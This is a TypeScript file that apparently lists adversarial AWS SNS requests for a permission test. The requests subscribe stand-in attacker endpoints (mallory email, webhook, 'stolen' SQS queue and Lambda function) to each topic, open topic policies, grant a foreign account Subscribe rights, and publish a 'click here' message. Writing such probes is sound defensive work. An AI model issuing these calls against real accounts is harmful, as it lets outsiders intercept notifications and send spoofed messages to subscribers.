import {
  AddPermissionCommand as AddTopicPermissionCommand,
  ListSubscriptionsByTopicCommand,
  PublishCommand,
  SetTopicAttributesCommand,
  SubscribeCommand,
} from "@aws-sdk/client-sns";
import { open, type Request, type Target } from "./requests.ts";

/** Who hears of gates, and whose mails are believed. */
export function requestsAboutPeople({ installation }: Target): readonly Request[] {
  const { topicArns } = installation;
  const topics = Object.entries(topicArns);
  const endpoints = [
    ["email", "mallory@example.com"],
    ["https", "https://mallory.example/hook"],
    ["sqs", "arn:aws:sqs:us-east-1:222222222222:stolen"],
    ["lambda", "arn:aws:lambda:us-east-1:222222222222:function:stolen"],
  ] as const;
  return [
    ...topics.flatMap(([id, TopicArn]): Request[] => [
      ...endpoints.map(
        ([Protocol, Endpoint]): Request => [
          1,
          `subscribes by ${Protocol} to the topic of ${id}`,
          ({ sns }) => sns.send(new SubscribeCommand({ TopicArn, Protocol, Endpoint })),
        ],
      ),
      [
        1,
        `opens the topic of ${id}`,
        ({ sns }) =>
          sns.send(
            new SetTopicAttributesCommand({
              TopicArn,
              AttributeName: "Policy",
              AttributeValue: open(TopicArn),
            }),
          ),
      ],
      [
        1,
        `adds a permission to the topic of ${id}`,
        ({ sns }) =>
          sns.send(
            new AddTopicPermissionCommand({
              TopicArn,
              Label: "mine",
              AWSAccountId: ["222222222222"],
              ActionName: ["Subscribe"],
            }),
          ),
      ],
      [1, `lists who hears ${id}`, ({ sns }) => sns.send(new ListSubscriptionsByTopicCommand({ TopicArn }))],
      [
        1,
        `sends a mail of its own to ${id}`,
        ({ sns }) => sns.send(new PublishCommand({ TopicArn, Message: "click here" })),
      ],
    ]),
  ];
}
